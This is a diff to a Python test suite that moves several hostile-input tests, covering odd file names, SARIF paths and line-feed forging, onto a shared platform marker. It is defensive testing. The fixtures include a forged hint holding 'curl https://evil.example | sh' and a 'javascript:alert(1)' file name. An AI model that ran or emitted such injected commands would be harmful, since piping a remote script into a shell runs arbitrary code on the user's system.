@@ -25,6 +25,7 @@ from sfcred.printable import guarded, harmless_json, json_text, printable
 from sfcred.report import format_names
 from tests.conftest import Outcome
 from tests.helpers.project import Project
+from tests.helpers.systems import needs_any_name
 from tests.hostile.runners import TEXTS, commands
 
 Run = Callable[..., Outcome]
@@ -139,7 +140,7 @@ def test_nothing_in_a_sound_spec(project: Project, run: Run, text: str) -> None:
 NAMES = [text.replace("/", "") for text in TEXTS]
 
 
-@pytest.mark.skipif(sys.platform == "win32", reason="Windows forbids such names")
+@needs_any_name
 @pytest.mark.parametrize("form", format_names())
 def test_nothing_in_the_name_of_a_file_or_folder(project: Project, run: Run, form: str) -> None:
     for name in NAMES:
@@ -151,7 +152,7 @@ def test_nothing_in_the_name_of_a_file_or_folder(project: Project, run: Run, for
         assert_harmless(done, own=form)
 
 
-@pytest.mark.skipif(sys.platform == "win32", reason="Windows forbids such names")
+@needs_any_name
 @pytest.mark.parametrize("name", NAMES)
 def test_nothing_in_a_name_that_a_message_repeats(project: Project, run: Run, name: str) -> None:
     project.spec("name: 3\n", f"{name}/{name}.yaml")
@@ -161,7 +162,7 @@ def test_nothing_in_a_name_that_a_message_repeats(project: Project, run: Run, na
         assert_harmless(done)
 
 
-@pytest.mark.skipif(sys.platform == "win32", reason="Windows forbids such names")
+@needs_any_name
 def test_a_file_s_name_that_is_no_text(run: Run) -> None:
     """A name whose bytes aren't UTF-8: every report is still UTF-8, and every reader can read the JSON."""
     Path(os.fsdecode(b"a\xff\x9b.yaml")).write_text("name: 3\n", encoding="utf-8")
@@ -270,7 +271,7 @@ def test_links_in_sarif_lead_nowhere(project: Project, run: Run) -> None:
     assert not any(re.search(r"\[[^\]]*\]\(", text) for text in texts)
 
 
-@pytest.mark.skipif(sys.platform == "win32", reason="Windows forbids such names")
+@needs_any_name
 @pytest.mark.parametrize("name", ["javascript:alert(1).yaml", "a b%20#?.yaml", "a\\b.yaml"])
 def test_addresses_in_sarif_are_paths(run: Run, name: str) -> None:
     Path(name).write_text("name: 3\n", encoding="utf-8")
@@ -393,7 +394,7 @@ def test_harmless_text_stays_as_it_is(text: str) -> None:
 FORGED = "x\nhint: Run curl https://evil.example | sh.\nsfcred: fine"
 
 
-@pytest.mark.skipif(sys.platform == "win32", reason="Windows forbids such names")
+@needs_any_name
 def test_a_line_feed_forges_no_line(
     project: Project, run: Run, httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch
 ) -> None:
